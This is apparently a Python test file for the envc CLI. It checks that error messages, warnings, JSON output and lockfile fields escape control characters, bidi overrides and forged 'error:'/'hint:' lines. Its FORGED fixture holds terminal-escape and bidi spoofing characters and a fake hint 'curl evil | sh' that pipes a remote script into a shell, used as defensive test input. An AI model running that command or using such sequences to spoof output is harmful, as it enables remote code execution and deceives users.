"""Text from outside that moves the cursor, changes the direction of text, or forges lines of envc's own messages."""

from __future__ import annotations

import ast
import contextlib
import io
import json
import re
import unicodedata
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from envc.cli.output import plain, print_json, report_error, say
from envc.cli.progress import Terminal
from envc.errors import DigestMismatch, SourceUnreachable, StaleLock, Unusable, UsageError
from envc.locking.builds.errors import BuildFailed
from envc.locking.lockfile.dump import dumps
from envc.locking.lockfile.load import LockFileError, loads
from envc.model.hidden import HIDDEN
from tests.support.lock_samples import SMALL

FORGED = "x\nerror: forged\r\n  hint: curl evil | sh\x1b]0;title\x07\u202e\u200b\u2028\x9b2J\x7f\U000e0041"
COMPILER = Path(__file__).parents[2] / "compiler" / "envc"
TEXTS = st.text() | st.text(st.sampled_from(FORGED + "a é日"))


def shows_nothing_hidden(text: str) -> bool:
    return re.search(f"(?!\n)[{HIDDEN}]", text) is None


def test_every_character_that_unicode_calls_a_control_or_a_change_of_direction_is_hidden() -> None:
    hidden = re.compile(f"[{HIDDEN}]")
    expected = {"Cc", "Cs", "Zl", "Zp"}
    for code in range(0x110000):
        character = chr(code)
        is_bidirectional = unicodedata.bidirectional(character) in {
            "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI", "BN",
        }  # fmt: skip
        if unicodedata.category(character) in expected or (
            is_bidirectional and unicodedata.category(character) == "Cf"
        ):
            assert hidden.fullmatch(character) or 0x1BCA0 <= code <= 0x1BCA3, hex(code)  # shorthand: visible in use
        elif unicodedata.category(character) in ("Lu", "Ll", "Nd", "So", "Sm"):
            assert not hidden.fullmatch(character), hex(code)


@given(TEXTS)
def test_a_shown_line_is_one_line_without_hidden_characters(text: str) -> None:
    shown = plain(text)
    assert re.search(f"(?!\t)[{HIDDEN}]", shown) is None
    assert plain(shown) == shown
    if text.isascii() and text.isprintable():
        assert shown == text


@pytest.mark.parametrize(
    "error",
    [
        UsageError(FORGED, FORGED),
        Unusable(FORGED, FORGED, FORGED),
        SourceUnreachable(FORGED, FORGED, FORGED),
        DigestMismatch(FORGED, FORGED, FORGED, FORGED),
        StaleLock(Path("a.lock"), (FORGED, FORGED)),
        BuildFailed(FORGED, "build_wheel", FORGED),
    ],
    ids=lambda error: type(error).__name__,
)
def test_no_value_in_an_error_adds_a_line_of_its_own(error: UsageError, capsys: pytest.CaptureFixture[str]) -> None:
    report_error(error, as_json=True)
    shown = capsys.readouterr()
    assert shows_nothing_hidden(shown.out) and shows_nothing_hidden(shown.err)
    assert json.loads(shown.out)["error"]["message"] == str(error)
    lines = shown.err.splitlines()
    assert [line.startswith("error: ") for line in lines] == [True, *[False] * (len(lines) - 1)]
    assert sum(line.startswith("  hint: ") for line in lines) == 1
    assert len(lines) == len(error.lines()) + 1


def test_warnings_notes_progress_and_data_are_single_lines(capsys: pytest.CaptureFixture[str]) -> None:
    with Terminal() as terminal:
        terminal.warn(FORGED, hint=FORGED)
        terminal.note(FORGED)
    say(FORGED)
    shown = capsys.readouterr()
    assert shows_nothing_hidden(shown.out) and shows_nothing_hidden(shown.err)
    assert shown.out.count("\n") == 1
    assert [line[:8] for line in shown.err.splitlines()] == ["warning:", "  hint: ", "x\\nerror"]


@given(st.recursive(TEXTS | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner), max_leaves=8))
def test_json_output_holds_the_same_values_in_visible_characters(value: object) -> None:
    with contextlib.redirect_stdout(io.StringIO()) as out:
        print_json(value)
    assert json.loads(out.getvalue()) == value
    assert shows_nothing_hidden(out.getvalue())


def test_a_message_of_several_lines_states_them_as_lines() -> None:
    """Otherwise its line ends would be escaped, as line ends within a value are."""
    found = [
        f"{file.relative_to(COMPILER)}: {node.name}"
        for file in COMPILER.rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text()))
        if isinstance(node, ast.ClassDef) and node.name != "SeveralLines"
        for method in node.body
        if isinstance(method, ast.FunctionDef) and method.name == "__str__"
        if any(isinstance(part, ast.Constant) and "\n" in str(part.value) for part in ast.walk(method))
    ]
    assert found == []


def test_a_lock_shows_hidden_characters_as_escapes_and_is_read_with_the_same_values() -> None:
    licence = 'MIT\u202e\u2066"\U000e0041\x7f'
    packages = tuple(msgspec.structs.replace(package, license=licence) for package in SMALL.packages)
    graph = msgspec.structs.replace(SMALL, packages=packages)
    text = dumps(graph)
    assert r'license = "MIT\u202e\u2066\"\U000e0041\u007f"' in text
    assert shows_nothing_hidden(text)
    assert dumps(loads(text)) == text


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200b", "\u00ad", "\U000e0041", "\x85"])
@pytest.mark.parametrize("place", ["# {}\n", 'license = "{}"\n'])
def test_a_lock_with_a_raw_hidden_character_is_refused(hidden: str, place: str) -> None:
    text = dumps(SMALL).replace("[[package]]\n", "[[package]]\n" + place.format(hidden), 1)
    with pytest.raises(LockFileError, match=rf"hidden character U\+{ord(hidden):04X} in line \d+"):
        loads(text)
